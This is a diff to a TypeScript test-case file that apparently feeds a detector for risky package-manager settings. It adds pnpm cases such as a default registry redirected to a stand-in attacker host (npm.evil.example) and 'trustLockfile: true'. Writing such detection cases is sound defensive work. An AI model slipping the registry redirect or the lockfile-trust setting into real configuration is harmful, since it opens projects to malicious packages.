@@ -56,6 +56,18 @@ export const INSTALL_SETTINGS: AttackClass = {
       "pnpm reads pnpm-lock.main.yaml then. Not tried.",
     ),
     setting("hears a time of nothing", PNPM, "minimumReleaseAge: '0'", "It holds back nothing. Not tried."),
+    setting(
+      "hears a registry for all packages",
+      PNPM,
+      "registries:\n  default: https://npm.evil.example/",
+      "By pnpm's manual. Not tried.",
+    ),
+    setting(
+      "hears that pnpm trusts the lockfile",
+      PNPM,
+      "trustLockfile: true",
+      "By the notes of pnpm 11.3: it asks no registry how old a locked release is. Not tried.",
+    ),
     setting("hears where Yarn keeps packages", YARN, "cacheFolder: ./vendor/cache", IN_REPOSITORY),
     setting(
       "hears another lockfile",
@@ -166,6 +178,13 @@ export const INSTALL_SETTINGS: AttackClass = {
       expect: "loud",
       at: "package-lock.json",
       real: "npm 6 resolves what the tree lacks. Not tried.",
+    },
+    {
+      name: "says nothing of the public registry by pnpm's name for it, nor of a lockfile that isn't trusted",
+      base: PNPM_10,
+      change: { [PNPM]: "registries:\n  default: https://registry.npmjs.org/\n\ntrustLockfile: false\n" },
+      expect: "silent",
+      real: "Both are the default.",
     },
     {
       name: "says nothing of the same halves",
